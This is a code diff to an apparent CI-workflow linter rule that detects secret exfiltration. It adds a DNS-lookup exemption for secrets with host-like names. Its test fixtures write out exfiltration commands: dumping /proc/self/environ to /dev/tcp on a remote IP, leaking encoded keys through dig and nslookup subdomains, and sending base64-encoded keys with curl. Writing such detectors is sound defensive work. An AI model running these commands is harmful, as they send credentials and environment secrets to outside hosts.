@@ -73,6 +73,10 @@ export const secretExfiltration = defineRule({
                     cat /proc/self/environ > /dev/tcp/198.51.100.7/443
                 # expect: lookup
                 - run: dig "$(echo $KEY | xxd -p).acme.example"
+                # expect: lookup
+                - run: nslookup "\${{ secrets.DEPLOY_KEY }}.\${{ secrets.DOMAIN_NAME }}"
+                # expect: lookup
+                - run: dig "$(echo \${{ secrets.DOMAIN_NAME }} | base64).acme.example"
                 # expect: encoded
                 - run: curl "https://acme.example/?$(echo -n $KEY | base64 | base64)"
                 # expect: others
@@ -112,6 +116,8 @@ export const secretExfiltration = defineRule({
                     env | sort
                     env FOO=1 curl https://acme.example/
                     dig acme.example
+                    dig +short "www.\${{ secrets.DOMAIN_NAME }}" @1.1.1.1
+                    NAME=app.\${{ secrets.PREVIEW_HOST }} && nslookup "$NAME"
                     nc -z acme.example 443
         `,
       },
@@ -125,7 +131,8 @@ function* check(step: RunStep): Generator<Report<Message>> {
 }
 
 function* judge(transmission: Transmission, step: Step): Generator<Report<Message>> {
-  const { command, secrets, dump } = transmission;
+  const { command, dump } = transmission;
+  const secrets = transmission.secrets.filter((name) => !isLookedUp(name, transmission));
   if (secrets.length === 0 && !dump) return;
   const hosts = transmission.hosts.filter((host) => !LOCAL.test(host));
   // All named hosts are on the local machine or network.
@@ -142,6 +149,13 @@ function* judge(transmission: Transmission, step: Step): Generator<Report<Messag
     attributes: { hosts, kind: secrets.includes('github_token') ? 'write-token' : 'repo-secret' },
   };
 }
+
+/** True for the name of a host in the command that looks hosts up. */
+function isLookedUp(secret: string, { command, encodings }: Transmission): boolean {
+  return encodings === 0 && isResolver(command) && PLACE.test(secret);
+}
+
+const PLACE = /(?:^|_)(?:dns|domain|endpoint|fqdn|host|hostname|server|zone)(?:_name)?$/;
 
 function nameOf(secret: string | undefined): string {
   return secret === '*' ? 'The object with all secrets' : `The secret ${secret ?? ''}`;
